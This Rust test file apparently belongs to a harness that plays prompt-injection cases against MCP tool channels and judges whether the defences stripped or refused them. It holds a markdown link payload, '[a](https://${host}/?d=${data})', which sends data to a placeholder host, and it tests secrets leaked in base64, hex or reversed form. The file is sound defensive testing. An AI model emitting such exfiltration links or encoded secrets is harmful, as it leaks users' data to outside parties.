//! Written cases: what is made of them, and who judges them.

use crate::*;
use proptest::prelude::*;

fn made() -> Made {
    let place = Some(ALLOWED.to_owned());
    Made { seed: SEED, registered: registered(SEED), links: place.clone(), images: place }
}

fn written(text: &str, expect: Expected) -> Written {
    Written {
        id: "links.one".to_owned(),
        title: "A link.".to_owned(),
        tags: vec!["MCP10".to_owned()],
        channels: vec![Channel::Result],
        encodings: vec![Encoding::of(Code::Plain)],
        positions: vec![Position::Alone],
        payload: Payload::Text(text.to_owned()),
        expect,
        twin: Some("[a](${allowed}b)".to_owned()),
        known: None,
        least: 100,
    }
}

fn link() -> Written {
    let gone = vec!["${data}".to_owned()];
    written("[a](https://${host}/?d=${data})", Expected { unreachable: true, gone, ..Expected::default() })
}

fn places() -> Judge {
    Judge::new([ALLOWED])
}

/// The attack of a case and its twin.
fn pair(case: &Written) -> (Probe, Probe) {
    let (mut probes, skipped) = expand(std::slice::from_ref(case), &made()).unwrap();
    assert!(skipped.is_empty());
    let twin = probes.pop().unwrap();
    (probes.pop().unwrap(), twin)
}

fn got(text: &str) -> Seen {
    Seen { played: true, texts: vec![text.to_owned()], ..Seen::default() }
}

#[test]
fn a_case_is_played_in_each_channel_position_and_encoding_and_its_twin_once_in_each_place() {
    let channels = vec![Channel::Result, Channel::Prompt];
    let encodings = vec![Encoding::of(Code::Plain), Encoding::of(Code::Base64)];
    let positions = vec![Position::Alone, Position::Cell, Position::Json];
    let case = Written { channels, encodings, positions, ..link() };
    let (probes, _) = expand(std::slice::from_ref(&case), &made()).unwrap();
    let twins = probes.iter().filter(|probe| probe.is_twin()).count();
    assert_eq!((probes.len() - twins, twins), (12, 6));
    let ids: std::collections::BTreeSet<_> = probes.iter().map(|probe| &probe.id).collect();
    assert_eq!(ids.len(), probes.len());
    assert_eq!(expand(&[case], &made()).unwrap().0, probes, "the same in every run");
}

#[test]
fn what_would_lead_nowhere_is_said_and_too_much_is_refused() {
    let nowhere = Made { links: None, ..made() };
    let (probes, skipped) = expand(&[link()], &nowhere).unwrap();
    assert_eq!((probes.len(), skipped), (1, vec!["links.one.twin.alone.result".to_owned()]));
    let matrix = |most| Written { payload: Payload::Matrix { family: Family::Css, most }, ..link() };
    assert!(expand(&[matrix(10)], &made()).unwrap().0.iter().all(|probe| probe.family == "links"));
    let most = |cases: &[Written]| expand(cases, &made()).err().map(|many| many.most);
    assert_eq!(most(&[matrix(usize::MAX)]), Some(MOST.1));
    let all: Vec<_> = (0..100).map(|_| matrix(500)).collect();
    assert_eq!(most(&all), Some(MOST.0));
}

#[test]
fn an_attack_that_came_through_has_failed() {
    let (attack, _) = pair(&link());
    assert!(judge(&attack, &got(&attack.input), &places()).is_some());
    assert_eq!(judge(&attack, &got("[a]([link removed])"), &places()), None);
    // Where it led is gone, and what it carried is not.
    let Want::Held(expect) = &attack.want else { panic!("an attack") };
    let hidden = Code::Base64.apply(&format!("it was {}", expect.gone[0]));
    let fault = judge(&attack, &got(&format!("see {hidden}")), &places()).unwrap();
    assert!(fault.seen.contains(&expect.gone[0]), "{fault:?}");
    // Nobody saw it.
    assert!(judge(&attack, &Seen::default(), &places()).is_some());
    let refused = |reason: &str| Seen { refused: Some(reason.to_owned()), ..Seen::default() };
    assert!(judge(&attack, &refused("limit.token_budget"), &places()).is_some());
    assert_eq!(judge(&attack, &refused("output.denied"), &places()), None);
}

#[test]
fn a_twin_that_was_touched_has_failed() {
    let (_, twin) = pair(&link());
    assert_eq!(judge(&twin, &got(&twin.input), &places()), None);
    for touched in [format!("{} ", twin.input), twin.input.replace("https", "http"), String::new()] {
        assert!(judge(&twin, &got(&touched), &places()).is_some(), "{touched:?}");
    }
    assert!(judge(&twin, &Seen { refused: Some("output.denied".to_owned()), ..got(&twin.input) }, &places()).is_some());
}

#[test]
fn each_part_of_what_is_expected_can_fail() {
    let with = |expect: Expected| pair(&written("words", expect)).0;
    let none = Expected::default();
    let refused = with(Expected { refused: Some("output.denied".to_owned()), ..none.clone() });
    assert!(judge(&refused, &got(""), &places()).is_some());
    let denied = Seen { refused: Some("output.denied".to_owned()), ..got("") };
    assert_eq!(judge(&refused, &denied, &places()), None);
    assert!(judge(&refused, &Seen { refused: Some("limit.tool".to_owned()), ..got("") }, &places()).is_some());

    let finding = with(Expected { finding: vec!["signal.*".to_owned()], ..none.clone() });
    let found = |rule: &str| Seen { findings: vec![rule.to_owned()], ..got("words") };
    assert_eq!(judge(&finding, &found("signal.phrase"), &places()), None);
    assert!(judge(&finding, &found("link.external"), &places()).is_some());
    assert!(judge(&finding, &denied, &places()).is_some(), "a refusal for another reason is no finding");

    let unlisted = with(Expected { unlisted: true, ..none.clone() });
    assert!(judge(&unlisted, &Seen { listed: Some(true), ..got("") }, &places()).is_some());
    assert_eq!(judge(&unlisted, &Seen { listed: Some(false), ..Seen::default() }, &places()), None);

    let unsent = with(Expected { unsent: vec!["${registered}".to_owned()], ..none });
    let value = registered(SEED);
    for sent in [value.clone(), Code::Hex.apply(&value), Code::Spaced.apply(&value), Code::Reverse.apply(&value)] {
        assert!(judge(&unsent, &Seen { sent: vec![sent], ..got("") }, &places()).is_some());
    }
    assert_eq!(judge(&unsent, &Seen { sent: vec!["words".to_owned()], ..got("") }, &places()), None);
}

#[test]
fn every_channel_carries_the_text() {
    for channel in Channel::ALL {
        assert!(channel.message("a \"b\"\n").contains(r#""a \"b\"\n""#), "{channel:?}");
        assert_eq!(Channel::parse(channel.as_str()), Some(channel));
    }
}

proptest! {
    /// Whatever a text holds, it is read, and judged, without a panic.
    #[test]
    fn any_text_can_be_written_and_judged(text in any::<String>(), out in any::<String>()) {
        let case = written(&text, Expected { unreachable: true, gone: vec![text.clone()], ..Expected::default() });
        for probe in expand(&[case], &made()).unwrap().0 {
            let _ = judge(&probe, &got(&out), &places());
        }
        let _ = variables(&text);
    }

    /// A text that came through as it is, is seen in whatever encoding stands around it.
    #[test]
    fn what_came_through_is_seen(data in "[a-z]{16,24}", nesting in 0..49_usize) {
        let case = written(&data, Expected { gone: vec![data.clone()], ..Expected::default() });
        let encoding = Encoding::nestings().nth(nesting).unwrap();
        let out = format!("see {} there", encoding.apply(&data));
        prop_assert!(judge(&pair(&case).0, &got(&out), &places()).is_some(), "{}: {out}", encoding.name());
    }
}
